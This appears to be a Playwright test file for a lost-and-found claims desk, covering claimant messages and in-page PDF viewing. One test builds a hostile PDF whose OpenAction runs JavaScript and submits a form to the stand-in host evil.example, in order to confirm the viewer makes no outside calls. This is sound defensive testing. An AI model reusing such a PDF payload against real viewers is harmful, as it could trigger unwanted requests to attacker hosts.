import type { Locator } from '@playwright/test';
import { Claimant } from '../../../support/clients.ts';
import type { Desk } from '../../../support/desk.ts';
import { pdf, receipt, type UploadFile } from '../../../support/evidence.ts';
import { claim, reportFound } from '../../../support/http.ts';
import { expectMessage } from '../../../support/said.ts';
import type { Service } from '../../../support/service.ts';
import { settled } from '../../../support/settled.ts';
import { expect, own, test } from '../../../support/test.ts';

test('§3 Claim Requests: the desk asks, the claimant answers, and the answer is flagged until it is read', async ({
  desk,
  service,
}) => {
  const { page } = desk;
  const title = own('Mandolin');
  const id = await reportFound(service, title);
  const { caseUrl } = await claim(service, id, 'Manon Dolin');
  await page.clock.install();
  await desk.open('/admin/claims', 'Claim Requests', title);
  await desk.press(`Review: ${title}, Manon Dolin`);
  const conversation = page
    .getByRole('dialog', { name: title })
    .getByRole('region', { name: 'Conversation with the claimant' });
  await expect(conversation.getByText('No messages yet.')).toBeVisible();
  await conversation.getByLabel('Message to the claimant').fill('How many strings does it have?');
  await desk.press('Send Message', conversation);
  await expectMessage(page, 'Message sent');
  const log = conversation.getByRole('log');
  await expect(log).toContainText('lost-and-found desk');
  await expect(log).toContainText('How many strings does it have?');
  await expect(conversation.getByLabel('Message to the claimant')).toHaveValue('');
  await page.keyboard.press('Escape');
  await expect(conversation, 'what is not on the screen is not read').toHaveCount(0);

  const claimant = await Claimant.open(service, caseUrl);
  await claimant.write('Eight, one of them is new.');
  await settled(page);
  await page.clock.fastForward(20_000);
  await expect(desk.row('Manon Dolin')).toContainText('1 new message');
  await desk.press(`Review: ${title}, Manon Dolin`);
  await expect(log.getByRole('listitem')).toHaveCount(2);
  await expect(log.getByRole('listitem').last()).toContainText('Eight, one of them is new.');

  await claimant.write('I can show a photo of it.');
  await settled(page);
  await page.clock.fastForward(20_000);
  await expect(log.getByRole('listitem').last(), 'while it is open').toContainText('show a photo');
  await page.keyboard.press('Escape');
  await expect(conversation).toHaveCount(0);
  await settled(page);
  await page.clock.fastForward(20_000);
  await settled(page);
  await expect(desk.row('Manon Dolin')).not.toContainText('new message');
});

/** Opens a claim that came with these files, and in its modal the first of them. */
const openProof = async (
  desk: Desk,
  service: Service,
  title: string,
  proof: UploadFile[],
): Promise<Locator> => {
  const item = await reportFound(service, title);
  const { id } = await claim(service, item, 'Petra Paper', {}, proof);
  await desk.page.goto(`${service.url}/admin/claims?claim=${id}`);
  const name = proof[0]?.name ?? '';
  await desk.press(`View ${name}`);
  return desk.page.getByRole('dialog', { name });
};

/** How many pixels of a drawn page are not its paper. */
const getInk = (page: Locator): Promise<number> =>
  page.evaluate((element) => {
    const canvas = element as HTMLCanvasElement;
    const { data } = canvas.getContext('2d')!.getImageData(0, 0, canvas.width, canvas.height);
    return data.filter((value, index) => index % 4 === 0 && value < 128).length;
  });

const document = (name: string, buffer: Buffer): UploadFile => ({
  name,
  mimeType: 'application/pdf',
  buffer,
});

test('§2 Claim Requests: a PDF is shown in place, page by page, with its text and a way to save it', async ({
  desk,
  service,
}) => {
  const pages = ['Bought in Seville', 'Serial number 4711'];
  const viewer = await openProof(desk, service, own('Oboe'), [receipt('oboe.pdf', pages)]);
  const first = viewer.getByRole('img', { name: 'Page 1 of 2 of oboe.pdf, as a picture' });
  await expect(first).toBeVisible();
  expect(await getInk(first)).toBeGreaterThan(100);
  await viewer.getByText('Text of this page').click();
  await expect(viewer.getByText('Bought in Seville')).toBeVisible();

  await desk.press('Next page', viewer);
  await expect(viewer.getByRole('status').getByText('Page 2 of 2')).toBeVisible();
  await expect(viewer.getByRole('img', { name: 'Page 2 of 2 of oboe.pdf, as a picture' })).toBeVisible();
  await expect(viewer.getByRole('button', { name: 'Next page' })).toBeFocused();
  await viewer.getByText('Text of this page').click();
  await expect(viewer.getByText('Serial number 4711')).toBeVisible();

  const saved = await desk.save(viewer.getByRole('link', { name: 'Download oboe.pdf' }));
  expect(saved.name).toBe('oboe.pdf');
});

test('Claim Requests: a PDF that runs, calls or opens something only shows its page', async ({
  desk,
  service,
}) => {
  const requests: string[] = [];
  desk.page.on('request', (request) => requests.push(request.url()));
  desk.page.on('dialog', (dialog) => requests.push(dialog.message()));
  const catalog = `/OpenAction << /S /JavaScript /JS (app.alert\\("boo"\\); this.submitForm\\("https://evil.example/"\\);) /Next << /S /URI /URI (https://evil.example/) >> >>`;
  const hostile = document('hostile.pdf', pdf({ pages: ['Only this'], catalog }));
  const viewer = await openProof(desk, service, own('Bassoon'), [hostile]);
  await expect(viewer.getByRole('img', { name: /^Page 1 of 1 of hostile\.pdf/ })).toBeVisible();
  expect(requests.filter((what) => !what.startsWith(service.url) && !what.startsWith('blob:'))).toEqual([]);
  expect(desk.page.context().pages()).toHaveLength(1);
});

test('Claim Requests: a PDF that is broken or locked says so, and the next file is a step away', async ({
  desk,
  service,
}) => {
  const key = `<${'5a'.repeat(32)}>`;
  const trailer = `/ID [<00> <00>] /Encrypt << /Filter /Standard /V 1 /R 2 /O ${key} /U ${key} /P -4 >>`;
  const viewer = await openProof(desk, service, own('Piccolo'), [
    document('broken.pdf', Buffer.from(`%PDF-1.7\n${'no page here '.repeat(50)}\n%%EOF\n`)),
    document('locked.pdf', pdf({ pages: ['Secret'], trailer })),
  ]);
  await expect(viewer.getByText('This PDF cannot be shown here')).toBeVisible();
  await expect(viewer.getByRole('link', { name: 'Download broken.pdf' })).toBeVisible();
  await desk.press('Next', viewer);
  const locked = desk.page.getByRole('dialog', { name: 'locked.pdf' });
  await expect(locked.getByText('This PDF is locked with a password')).toBeVisible();
});
